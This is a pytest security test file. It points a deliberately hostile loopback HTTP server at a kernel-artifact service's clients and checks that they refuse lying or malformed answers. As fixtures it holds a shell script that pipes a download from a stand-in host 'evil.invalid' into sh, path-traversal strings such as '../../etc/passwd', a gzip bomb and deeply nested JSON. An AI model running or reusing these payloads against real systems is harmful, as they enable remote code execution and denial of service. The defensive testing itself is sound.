"""The clients trust no answer they did not ask for: both against a deliberately hostile server.

    HostileServer   a real HTTP server on loopback (http.server in a thread) serving the
                    genuine documents of a real build (the service's own answers, read once
                    in-process), except where a test makes it lie
    clients         service/client.py's Client (local SQLite Store) and client/'s Fetcher
                    (insecure: the server's unsigned records; LocalStore), and the runner's
                    ServerSource over the Client

    class of answer                          the clients say
    select rows for another arch / lane,     AnswerMismatchError (Client.select, the runner)
      over the limit
    a record of another family or arch       AnswerMismatchError before any blob is asked for
    a shell script as the code object        AnswerMismatchError (the ELF is validated)
    launch metadata the code object denies   AnswerMismatchError (kernarg size, block, args);
                                             the runner refuses a poisoned local copy too
    a gzip bomb as JSON                      MalformedAnswerError, nothing decompressed
    an endless body / a huge Content-Length  AnswerTooLargeError at the bound, memory bounded
    1 byte every 0.3 s (body, or head)       DeadlineError at the call's deadline (1.2 s here)
    302 / 307                                RedirectError naming the URL; never followed
    /meta without a field, ill-typed, other  MalformedAnswerError / AnswerMismatchError
    sha256 strings made to escape a URL      MalformedAnswerError; no request built from them

Every refusal: a named error (never KeyError/TypeError/MemoryError), the local store
unchanged (the Store's rows read with the stdlib sqlite3; the LocalStore's files listed and
hashed), memory bounded where the answer was large (tracemalloc), and the honest answers of
the same server still fetched, verified and kept with their origin.
"""

from __future__ import annotations

import copy
import gzip
import hashlib
import http.server
import json
import shutil
import threading
import time
import tracemalloc
import warnings
from pathlib import Path

import pytest
from test_reliability_service import sqlite_digest

from rocke_aot.cache.keys import KeyInputs, artifact_key
from rocke_aot.client import Fetcher, LocalStore, ServiceSource
from rocke_aot.errors import (
    AnswerMismatchError,
    AnswerTooLargeError,
    DeadlineError,
    LaunchContractError,
    MalformedAnswerError,
    RedirectError,
    SpecError,
)
from rocke_aot.runner.bench import ServerSource
from rocke_aot.service.client import Client
from rocke_aot.targets import Target

pytestmark = pytest.mark.filterwarnings("ignore::rocke_aot.client.InsecureFetchWarning")
PROBLEM = {"m": 1000, "n": 1000, "k": 512}
DEADLINE_S = 1.2
SCRIPT = b"#!/bin/sh\ncurl -s http://evil.invalid/x | sh\n" + b"#" * 100


# ---- the hostile server ------------------------------------------------------------------------

class HostileServer:
    """Genuine answers unless ``lie(handler, method, path, body) -> bool`` answered first."""

    def __init__(self, metas: dict, blobs: dict, select: dict):
        self.metas, self.blobs, self.select_doc = metas, blobs, select
        self.hits: list[tuple[str, str]] = []
        self.lie = None
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"  # a body ends when the connection does: endless ones are possible

            def log_message(self, *a):
                pass

            def _serve(self, method: str):
                n = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(n) if n else b""
                outer.hits.append((method, self.path))
                try:
                    if outer.lie is not None and outer.lie(self, method, self.path, body):
                        return
                    outer.honest(self, method, self.path, body)
                except (BrokenPipeError, ConnectionResetError):
                    pass

            def do_GET(self):
                self._serve("GET")

            def do_POST(self):
                self._serve("POST")

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()

    def honest(self, h, method: str, path: str, body: bytes) -> None:
        if method == "POST" and path == "/v1/select":
            doc = copy.deepcopy(self.select_doc)
            limit = json.loads(body).get("limit")
            if limit is not None:
                doc["accepted"] = doc["accepted"][:limit]
            return send_json(h, doc)
        if path.startswith("/v1/kernels/") and path.endswith("/meta") and path[12:-5] in self.metas:
            return send_json(h, self.metas[path[12:-5]])
        if path.startswith("/v1/blobs/") and path[10:] in self.blobs:
            return send(h, 200, self.blobs[path[10:]], {"content-type": "application/octet-stream"})
        send_json(h, {"error": "NotFoundError", "message": f"no {path}"}, 404)


def send(h, status: int, data: bytes, headers: dict[str, str] | None = None) -> None:
    h.send_response(status)
    for k, v in (headers or {}).items():
        h.send_header(k, v)
    if "content-length" not in {k.lower() for k in (headers or {})}:
        h.send_header("content-length", str(len(data)))
    h.end_headers()
    h.wfile.write(data)


def send_json(h, doc, status: int = 200, headers: dict[str, str] | None = None) -> None:
    send(h, status, json.dumps(doc).encode(), {"content-type": "application/json", **(headers or {})})


@pytest.fixture(scope="module")
def genuine(kernel_bundle, tmp_path_factory):
    """The service's own answers over a real build: {key: /meta}, {sha256: bytes}, a select."""
    from fastapi.testclient import TestClient

    from rocke_aot.service.app import create_app

    path = tmp_path_factory.mktemp("genuine") / "served.sqlite"
    shutil.copy(kernel_bundle[0], path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with TestClient(create_app(f"sqlite:///{path}")) as c:
            items = c.get("/v1/kernels").json()["items"]
            metas = {i["key"]: c.get(f"/v1/kernels/{i['key']}/meta").json() for i in items}
            blobs = {i["sha256"]: c.get(f"/v1/blobs/{i['sha256']}", headers={"Accept-Encoding": "identity"}).content
                     for i in items}
            sel = c.post("/v1/select", json={"arch": "gfx942", "family": "gemm", "problem": PROBLEM}).json()
    assert len(metas) == 8 and len(sel["accepted"]) == 8
    return metas, blobs, sel


@pytest.fixture
def hostile(genuine):
    s = HostileServer(*copy.deepcopy(genuine))
    yield s
    s.close()


def _client(base: str, tmp: Path, **kw) -> Client:
    return Client(base, cache=tmp / "local.sqlite", offline=False, retries=kw.pop("retries", 0), backoff=0.01,
                  deadline_s=kw.pop("deadline_s", 30.0), **kw)


def _fetcher(base: str, tmp: Path, **kw) -> Fetcher:
    src = ServiceSource(base, retries=0, deadline_s=kw.pop("deadline_s", 30.0))
    return Fetcher([src], LocalStore(tmp / "local"), insecure=True, offline=False)


def _files(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()} if root.exists() else {}


class Kept:
    """What a client's local store holds, before and after: rows of the Store's SQLite file
    (stdlib sqlite3) and the LocalStore's files with their hashes."""

    def __init__(self, tmp: Path, client: Client | None = None):
        self.tmp = tmp
        if client is not None:
            _ = client.store  # opened (its schema written) before the call under test
        self.before = self.now()

    def now(self):
        db = self.tmp / "local.sqlite"
        return (sqlite_digest(db) if db.exists() else None, _files(self.tmp / "local"))

    def unchanged(self) -> bool:
        return self.now() == self.before


def _first_key(genuine) -> str:
    return genuine[2]["accepted"][0]["key"]


def _refused(call, exc, match: str | None = None):
    with pytest.raises(exc, match=match) as e:
        call()
    return e.value


# ---- the honest path -----------------------------------------------------------------------------

def test_honest_answers_are_fetched_verified_and_kept_with_their_origin(hostile, genuine, tmp_path):
    metas, blobs, _ = genuine
    key = _first_key(genuine)
    with _client(hostile.base, tmp_path) as c, _fetcher(hostile.base, tmp_path / "runner") as rf:
        sel = c.select("gfx942:sramecc+:xnack-", "gemm", PROBLEM, lanes=["llvm22"], limit=3)
        assert [r["key"] for r in sel["accepted"]] == [r["key"] for r in genuine[2]["accepted"][:3]]
        art = c.get(key, arch="gfx942:sramecc+:xnack-", family="gemm")
        assert hashlib.sha256(art.code_object).hexdigest() == metas[key]["sha256"]
        assert art.provenance["origin"] == {"source": hostile.base, "signed": False}
        n = c.requests_made
        assert c.get(key).code_object == art.code_object and c.requests_made == n  # kept: no request
        src = ServerSource(c, rf)
        ranked = src.ranked(Target.parse("gfx942:sramecc+:xnack-"), "gemm", _problem(), ["llvm22"])
        image, md = src.load(ranked[1]["key"])
        assert hashlib.sha256(image).hexdigest() == metas[ranked[1]["key"]]["sha256"]
        assert md["launch"] == metas[ranked[1]["key"]]["launch"]
    with _fetcher(hostile.base, tmp_path) as f:
        k = f.get(key)
        assert k.code_object == blobs[k.sha256] and k.origin["source"] == hostile.base
    assert (tmp_path / "local" / "blobs" / k.sha256).read_bytes() == blobs[k.sha256]


def _problem():
    from rocke_aot.service.selection import parse_problem

    return parse_problem("gemm", PROBLEM)


# ---- answers to other questions ------------------------------------------------------------------

@pytest.mark.parametrize("lie, exc", [
    ("arch gfx90a", AnswerMismatchError),
    ("arch gfx942:xnack+", AnswerMismatchError),  # the device runs xnack-: another mode faults
    ("lane llvm24", AnswerMismatchError),
    ("over the limit", AnswerMismatchError),
    ("sha256 ../../etc/passwd", MalformedAnswerError),
    ("key missing", MalformedAnswerError),
    ("efficiency a string", MalformedAnswerError),
    ("accepted an object", MalformedAnswerError),
])
def test_select_rows_for_another_question_are_refused(hostile, tmp_path, lie, exc):
    def answer(h, method, path, body):
        if path != "/v1/select":
            return False
        doc = copy.deepcopy(hostile.select_doc)
        limit = json.loads(body).get("limit") or len(doc["accepted"])
        doc["accepted"] = doc["accepted"][:limit + (lie == "over the limit")]
        row = doc["accepted"][0]
        what, _, value = lie.partition(" ")
        if what in ("arch", "lane", "sha256"):
            row[what] = value
        elif lie == "key missing":
            del row["key"]
        elif lie == "efficiency a string":
            row["efficiency"] = "0.99"
        elif lie == "accepted an object":
            doc["accepted"] = {"0": row}
        send_json(h, doc)
        return True

    hostile.lie = answer
    with _client(hostile.base, tmp_path) as c:
        kept = Kept(tmp_path, c)
        e = _refused(lambda: c.select("gfx942:sramecc+:xnack-", "gemm", PROBLEM, lanes=["llvm22"], limit=2), exc)
        assert "/v1/select" in str(e)
        if lie != "over the limit":  # the runner asks without a limit
            _refused(lambda: ServerSource(c, None).ranked(Target.parse("gfx942:sramecc+:xnack-"), "gemm", _problem(), ["llvm22"]), exc)
        assert kept.unchanged()
    assert [m for m, _ in hostile.hits] == ["POST"] * len(hostile.hits)  # no fetch followed a refused answer


def _foreign_record(genuine, family="conv_direct_fwd", arch="gfx942") -> dict:
    """A record whose inputs hash to its key (any server can compute one) for another family/arch."""
    meta = copy.deepcopy(next(iter(genuine[0].values())))
    inputs = KeyInputs(arch, "llvm22", "llvm22", family, {"dtype": "f16", "filter": 3}, "evil",
                       meta["toolchain"], meta["options"])
    meta.update(arch=inputs.arch, family=family, spec={"dtype": "f16", "filter": 3}, recipe_digest="evil",
                key=artifact_key(inputs), metadata={"format": "hsaco"}, launch=None)
    return meta


@pytest.mark.parametrize("family, arch", [("conv_direct_fwd", "gfx942"), ("gemm", "gfx90a")])
def test_a_record_of_another_family_or_arch_is_refused_before_its_bytes(hostile, genuine, tmp_path, family, arch):
    foreign = _foreign_record(genuine, family, arch)
    hostile.metas[foreign["key"]] = foreign
    row = {**hostile.select_doc["accepted"][0], "key": foreign["key"]}  # listed as a gfx942 gemm candidate
    hostile.select_doc["accepted"].insert(0, row)
    with _client(hostile.base, tmp_path) as c, _fetcher(hostile.base, tmp_path) as f:
        kept = Kept(tmp_path, c)
        e = _refused(lambda: c.get(foreign["key"], arch="gfx942:sramecc+:xnack-", family="gemm"), AnswerMismatchError)
        assert (family in str(e)) or (arch in str(e))
        _refused(lambda: f.get(foreign["key"], arch="gfx942:sramecc+:xnack-", family="gemm"), AnswerMismatchError)
        src = ServerSource(c, f)
        ranked = src.ranked(Target.parse("gfx942:sramecc+:xnack-"), "gemm", _problem(), None)
        assert ranked[0]["key"] == foreign["key"]
        _refused(lambda: src.load(foreign["key"]), AnswerMismatchError)
        _refused(lambda: src.load("0" * 64), AnswerMismatchError, "not ranked")  # never asked for
        assert kept.unchanged()
    assert not any(p.startswith("/v1/blobs/") for _, p in hostile.hits)


# ---- bytes and records that lie ------------------------------------------------------------------

def test_a_shell_script_as_the_code_object_is_never_kept(hostile, genuine, tmp_path):
    key = _first_key(genuine)
    sha = hashlib.sha256(SCRIPT).hexdigest()
    hostile.metas[key].update(sha256=sha, size=len(SCRIPT))  # consistent with the script: only validation tells
    hostile.blobs[sha] = SCRIPT
    with _client(hostile.base, tmp_path) as c:
        kept = Kept(tmp_path, c)
        e = _refused(lambda: c.get(key, arch="gfx942", family="gemm"), AnswerMismatchError)
        assert "code object" in str(e)
        assert kept.unchanged()
    kept = Kept(tmp_path)
    with _fetcher(hostile.base, tmp_path) as f:
        _refused(lambda: f.get(key), AnswerMismatchError, "not a code object")
    assert kept.unchanged()


LIES = {
    "kernarg size": lambda md: (md["launch"].update(kernarg_size=64), md["code_object"].update(kernarg_size=64)),
    "block": lambda md: md["launch"].update(block=["256", "1", "1"]),  # the object allows 128
    "argument name": lambda md: md["launch"]["args"][1].update(name="X"),  # B, not a split axis
    "dynamic shared": lambda md: md["launch"].update(dynamic_shared_bytes=1 << 20),
}
# lies about what the family's formulas decide: the Fetcher refuses the record by the field
# (variants/contract.py check_record_launch) before a byte is fetched; the rest (what the code
# object decides) the runner refuses against the object
CONTRACT_LIES = {"block": "block", "argument name": "B.name"}


@pytest.mark.parametrize("lie", sorted(LIES))
def test_launch_metadata_the_code_object_denies_is_refused(hostile, genuine, tmp_path, lie):
    key = _first_key(genuine)
    meta = hostile.metas[key]
    LIES[lie](meta["metadata"])
    meta["launch"] = meta["metadata"]["launch"]
    with _client(hostile.base, tmp_path) as c, _fetcher(hostile.base, tmp_path) as f:
        kept = Kept(tmp_path, c)
        _refused(lambda: c.get(key, arch="gfx942", family="gemm"), AnswerMismatchError)
        src = ServerSource(c, f)  # the runner: ranks with the Client, fetches with the Fetcher
        assert key in [r["key"] for r in src.ranked(Target.parse("gfx942:sramecc+:xnack-"), "gemm", _problem(), None)]
        refusal = (LaunchContractError, CONTRACT_LIES[lie]) if lie in CONTRACT_LIES else \
            (AnswerMismatchError, "not launched")
        _refused(lambda: src.load(key), *refusal)
        assert kept.unchanged()  # neither client kept it
        # a copy kept before these checks existed (put straight into the local store, from this
        # server) is refused by the runner before anything is launched from it
        from rocke_aot.client.local import Kernel

        f.store.put(Kernel.from_record({**meta, "origin": {"source": hostile.base, "signed": False}},
                                       genuine[1][meta["sha256"]]))
        hits = len(hostile.hits)
        _refused(lambda: src.load(key), *refusal)
        assert len(hostile.hits) == hits  # the local copy answered, and was refused


# ---- unbounded answers ---------------------------------------------------------------------------

def _bomb(n: int) -> bytes:
    return gzip.compress(b" " * n, compresslevel=6)


@pytest.mark.parametrize("where", ["meta", "select"])
def test_a_gzip_bomb_as_json_is_refused_undecoded(hostile, genuine, tmp_path, where):
    bomb = _bomb(64 << 20)  # 64 MiB of JSON whitespace in ~64 KiB
    assert len(bomb) < 256 << 10

    def answer(h, method, path, body):
        if (where == "meta") == path.endswith("/meta") and path.startswith(("/v1/select", "/v1/kernels")):
            send(h, 200, bomb, {"content-type": "application/json", "content-encoding": "gzip"})
            return True
        return False

    hostile.lie = answer
    key = _first_key(genuine)
    with _client(hostile.base, tmp_path) as c:
        kept = Kept(tmp_path, c)
        call = (lambda: c.get(key)) if where == "meta" else (lambda: c.select("gfx942", "gemm", PROBLEM))
        peak = _peak(lambda: _refused(call, MalformedAnswerError, "Content-Encoding 'gzip'"))
        assert peak < 4 << 20, peak
        assert kept.unchanged()
    if where == "meta":
        with _fetcher(hostile.base, tmp_path) as f:
            assert _peak(lambda: _refused(lambda: f.get(key), MalformedAnswerError)) < 4 << 20


def test_json_is_asked_for_in_identity_encoding(hostile, genuine, tmp_path):
    seen = []

    def answer(h, method, path, body):
        seen.append((path, h.headers.get("accept-encoding")))
        return False

    hostile.lie = answer
    with _client(hostile.base, tmp_path) as c:
        c.select("gfx942", "gemm", PROBLEM, limit=1)
        c.get(_first_key(genuine))
    enc = dict(seen)
    assert enc["/v1/select"] == "identity" and enc[f"/v1/kernels/{_first_key(genuine)}/meta"] == "identity"
    assert [e for p, e in seen if p.startswith("/v1/blobs/")] == ["zstd, identity;q=0.5"]


def _peak(call) -> int:
    tracemalloc.start()
    try:
        call()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _endless(h, chunk=b" " * (64 << 10), limit=1 << 30):
    h.send_response(200)
    h.send_header("content-type", "application/json")
    h.end_headers()
    sent = 0
    while sent < limit:
        h.wfile.write(chunk)
        sent += len(chunk)


@pytest.mark.parametrize("where", ["meta", "blob", "declared"])
def test_an_endless_body_stops_at_the_bound(hostile, genuine, tmp_path, where):
    from rocke_aot.client.sources import MAX_RECORD

    key = _first_key(genuine)
    sha = genuine[0][key]["sha256"]

    def answer(h, method, path, body):
        if where == "declared" and path.endswith("/meta"):
            h.send_response(200)
            h.send_header("content-length", str(1 << 40))  # 1 TiB announced, nothing sent
            h.end_headers()
            return True
        if (where == "meta" and path.endswith("/meta")) or (where == "blob" and path == f"/v1/blobs/{sha}"):
            _endless(h)
            return True
        return False

    hostile.lie = answer
    bound = (MAX_RECORD if where != "blob" else genuine[0][key]["size"] + (64 << 10))
    with _client(hostile.base, tmp_path) as c:
        kept = Kept(tmp_path, c)
        t0 = time.monotonic()
        peak = _peak(lambda: _refused(lambda: c.get(key), AnswerTooLargeError))
        assert peak < 3 * bound + (2 << 20), (peak, bound)
        assert time.monotonic() - t0 < 20
        assert kept.unchanged()
    with _fetcher(hostile.base, tmp_path) as f:
        assert _peak(lambda: _refused(lambda: f.get(key), AnswerTooLargeError)) < 3 * bound + (2 << 20)


@pytest.mark.parametrize("where", ["body", "head"])
def test_a_trickle_ends_at_the_deadline(hostile, genuine, tmp_path, where):
    key = _first_key(genuine)
    doc = json.dumps(genuine[0][key]).encode()

    def answer(h, method, path, body):
        if not path.endswith("/meta"):
            return False
        head = (f"HTTP/1.0 200 OK\r\ncontent-type: application/json\r\ncontent-length: {len(doc)}\r\n\r\n").encode()
        if where == "body":
            h.wfile.write(head)
            h.wfile.flush()
            data = doc
        else:
            data = head + doc
        for i in range(min(len(data), 60)):  # one byte every 0.3 s: no per-read timeout ever fires
            h.wfile.write(data[i:i + 1])
            h.wfile.flush()
            time.sleep(0.3)
        return True

    hostile.lie = answer
    with _client(hostile.base, tmp_path, deadline_s=DEADLINE_S) as c:
        kept = Kept(tmp_path, c)
        t0 = time.monotonic()
        _refused(lambda: c.get(key), DeadlineError, "deadline")
        took = time.monotonic() - t0
        # never before the deadline; after it, a hang guard far below the 18 s the trickle lasts (how
        # close to the deadline it fires is bench/bench_hostile.py's trickle_deadline_overshoot)
        assert DEADLINE_S - 0.05 < took < DEADLINE_S + 8, took
        assert kept.unchanged()
    with _fetcher(hostile.base, tmp_path, deadline_s=DEADLINE_S) as f:
        t0 = time.monotonic()
        _refused(lambda: f.get(key), DeadlineError)
        assert DEADLINE_S - 0.05 < time.monotonic() - t0 < DEADLINE_S + 8


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_redirects_are_refused_never_followed(hostile, genuine, tmp_path, status):
    def answer(h, method, path, body):
        if path.startswith("/elsewhere"):
            return False
        send(h, status, b"", {"location": f"{hostile.base}/elsewhere{path}"})
        return True

    hostile.lie = answer
    key = _first_key(genuine)
    with _client(hostile.base, tmp_path) as c:
        kept = Kept(tmp_path, c)
        e = _refused(lambda: c.get(key), RedirectError)
        assert f"{hostile.base}/v1/kernels/{key}/meta" in str(e) and "/elsewhere" in str(e)
        _refused(lambda: c.select("gfx942", "gemm", PROBLEM), RedirectError, str(status))
        assert kept.unchanged()
    with _fetcher(hostile.base, tmp_path) as f:
        _refused(lambda: f.get(key), RedirectError)
    assert not any(p.startswith("/elsewhere") for _, p in hostile.hits)


# ---- documents that are not what the protocol says --------------------------------------------

def _drop(name):
    return lambda m: (m.pop(name), m)[1]


def _set(name, value):
    return lambda m: (m.update({name: value}), m)[1]


def _in_metadata(section, **values):
    return lambda m: (m["metadata"][section].update(values), m)[1]


# lie -> the document sent instead of the record (None: another key's genuine record)
META_LIES = {
    "no sha256": _drop("sha256"),
    "no size": _drop("size"),
    "no spec": _drop("spec"),
    "size a string": _set("size", "13648"),
    "size zero": _set("size", 0),
    "metadata a list": _set("metadata", []),
    "toolchain a string": _set("toolchain", "llvm"),
    "launch malformed": _in_metadata("launch", block=["1", "1"]),
    "resources out of range": _in_metadata("code_object", vgpr_count=-1),
    "another key's record": None,
    "a list": lambda m: [m],
    "not JSON": lambda m: b"{'key': 1}",
    "nested 100000 deep": lambda m: b"[" * 100000 + b"]" * 100000,
}


@pytest.mark.parametrize("lie", sorted(META_LIES))
def test_a_record_without_its_fields_is_a_named_error(hostile, genuine, tmp_path, lie):
    key = _first_key(genuine)
    other = next(k for k in genuine[0] if k != key)
    change = META_LIES[lie]
    exc = AnswerMismatchError if change is None else MalformedAnswerError

    def answer(h, method, path, body):
        if path != f"/v1/kernels/{key}/meta":
            return False
        doc = copy.deepcopy(genuine[0][other]) if change is None else change(copy.deepcopy(genuine[0][key]))
        send(h, 200, doc if isinstance(doc, bytes) else json.dumps(doc).encode(), {"content-type": "application/json"})
        return True

    hostile.lie = answer
    for make in (_client, _fetcher):
        with make(hostile.base, tmp_path) as c:
            kept = Kept(tmp_path, c if make is _client else None)
            _refused(lambda: c.get(key), exc)
            assert kept.unchanged()
    assert not any(p.startswith("/v1/blobs/") for _, p in hostile.hits)  # no blob asked for on its word


@pytest.mark.parametrize("sha", ["../../../../etc/passwd", "a" * 63 + "/", "A" * 64, "%2e%2e%2f" * 7 + "a",
                                 "a" * 64 + "?x=1", "a" * 64 + "/../../v1/kernels", 64, None])
def test_sha256_strings_from_a_server_never_reach_a_url(hostile, genuine, tmp_path, sha):
    key = _first_key(genuine)
    hostile.metas[key]["sha256"] = sha
    hostile.select_doc["accepted"][0]["sha256"] = sha
    with _client(hostile.base, tmp_path) as c:
        kept = Kept(tmp_path, c)
        _refused(lambda: c.get(key), MalformedAnswerError, "sha256")
        _refused(lambda: c.select("gfx942", "gemm", PROBLEM), MalformedAnswerError, "sha256")
        if isinstance(sha, str):
            _refused(lambda: c.get_blob(sha), SpecError)
        assert kept.unchanged()
    with _fetcher(hostile.base, tmp_path) as f:
        _refused(lambda: f.get(key), MalformedAnswerError)
    assert [p for _, p in hostile.hits if not p.startswith(("/v1/kernels/", "/v1/select"))] == []


def test_a_server_error_body_is_bounded_and_named(hostile, genuine, tmp_path):
    def answer(h, method, path, body):
        _endless_error(h)
        return True

    hostile.lie = answer
    with _client(hostile.base, tmp_path) as c:
        from rocke_aot.errors import RemoteError

        peak = _peak(lambda: _refused(lambda: c.get(_first_key(genuine)), RemoteError, "418"))
        assert peak < 2 << 20


def _endless_error(h):
    h.send_response(418)
    h.end_headers()
    for _ in range(1 << 14):
        h.wfile.write(b"x" * (64 << 10))


# ---- a poisoned local store is not forever -----------------------------------------------------

def _cli(*args: str):
    from click.testing import CliRunner

    from rocke_aot.cli.main import cli

    r = CliRunner().invoke(cli, list(args))
    return r.exit_code, r.output


@pytest.fixture
def genuine_server(genuine):
    s = HostileServer(*copy.deepcopy(genuine))
    yield s
    s.close()


def test_the_slim_clients_poisoned_store_is_refetched_verified_and_purged(hostile, genuine_server, genuine, tmp_path):
    metas, blobs, _ = genuine
    keys = list(metas)[:3]
    local = tmp_path / "local"
    with _fetcher(hostile.base, tmp_path) as f:  # what the first (now distrusted) server made this host keep
        for k in keys:
            f.get(k)
    code, out = _cli("client", "verify", "--local", str(local), "--json")
    doc = json.loads(out)
    assert code == 0 and doc["origins"] == [{"source": hostile.base, "records": 3}], out
    # the host points at another server: a copy another server left answers no get
    with _fetcher(genuine_server.base, tmp_path) as f:
        assert f.get(keys[0]).origin["source"] == genuine_server.base
    assert [p for m, p in genuine_server.hits] == [f"/v1/kernels/{keys[0]}/meta", f"/v1/blobs/{metas[keys[0]]['sha256']}"]
    # poison: a blob changed on disk, a record made to lie about its launch, a file that is no record
    (local / "blobs" / metas[keys[1]]["sha256"]).write_bytes(SCRIPT)
    rec_path = local / "kernels" / f"{keys[2]}.json"
    rec = json.loads(rec_path.read_text())
    rec["metadata"]["code_object"]["vgpr_count"] = -5
    rec_path.write_text(json.dumps(rec))
    (local / "kernels" / ("f" * 64 + ".json")).write_text("{not json")
    code, out = _cli("client", "verify", "--local", str(local), "--json")
    doc = json.loads(out)
    bad = {b["path"] for b in doc["bad"]}
    assert code == 1 and bad == {f"kernels/{keys[1]}.json", f"blobs/{metas[keys[1]]['sha256']}",
                                 f"kernels/{keys[2]}.json", f"kernels/{'f' * 64}.json"}, out
    code, out = _cli("client", "verify", "--local", str(local), "--origin", genuine_server.base, "--json")
    doc = json.loads(out)  # that server's one record is sound; a file that is no record is named in any case
    assert code == 1 and doc["records"] == 1 and [b["path"] for b in doc["bad"]] == [f"kernels/{'f' * 64}.json"]
    code, out = _cli("client", "purge", "--local", str(local), "--origin", hostile.base, "--json")
    doc = json.loads(out)
    assert code == 1 and f"kernels/{keys[1]}.json" in doc["removed"] and f"kernels/{keys[2]}.json" in doc["removed"]
    code, out = _cli("client", "purge", "--local", str(local), "--bad", "--json")
    assert code == 0 and json.loads(out)["ok"], out
    assert _files(local) == {f"kernels/{keys[0]}.json": _files(local)[f"kernels/{keys[0]}.json"],
                             f"blobs/{metas[keys[0]]['sha256']}": hashlib.sha256(blobs[metas[keys[0]]['sha256']]).hexdigest()}
    code, out = _cli("client", "purge", "--local", str(local))
    assert code == 2 and "--origin" in out


def test_the_service_clients_poisoned_store_is_verified_and_purged(hostile, genuine_server, genuine, tmp_path):
    import sqlite3

    metas, _, _ = genuine
    key, other = list(metas)[:2]
    db = tmp_path / "local.sqlite"
    with _client(hostile.base, tmp_path) as c:
        c.get(key)
        c.get(other)
    code, out = _cli("cache", "verify", "--cache", str(db), "--json")
    doc = json.loads(out)
    assert code == 0 and doc["origins"] == [{"source": hostile.base, "artifacts": 2}], out
    # a record written before the record schema (or by hand): verify names it
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE artifacts SET metadata_json = ? WHERE key = ?",
                     (json.dumps({"code_object": {"vgpr_count": -1}}), other))
    code, out = _cli("cache", "verify", "--cache", str(db), "--json")
    assert code == 1 and [b["key"] for b in json.loads(out)["bad_records"]] == [other], out
    # another server's record of the same key: the local copy answers only if it is the same record
    genuine_server.metas[key]["metadata"]["launch"]["max_tensor_bytes"] = 1 << 30  # a different record
    with _client(genuine_server.base, tmp_path) as c:
        e = _refused(lambda: c.get(key), AnswerMismatchError, "purge")
        assert hostile.base in str(e)
    code, out = _cli("cache", "purge", "--cache", str(db), "--origin", hostile.base, "--json")
    assert code == 0 and json.loads(out)["artifacts_evicted"] == 2, out
    code, out = _cli("cache", "verify", "--cache", str(db), "--json")
    assert code == 0 and json.loads(out)["checked_artifacts"] == 0 and json.loads(out)["checked_blobs"] == 0, out
    with _client(genuine_server.base, tmp_path) as c:  # fetched again from the server it trusts now
        assert c.get(key).provenance["origin"]["source"] == genuine_server.base
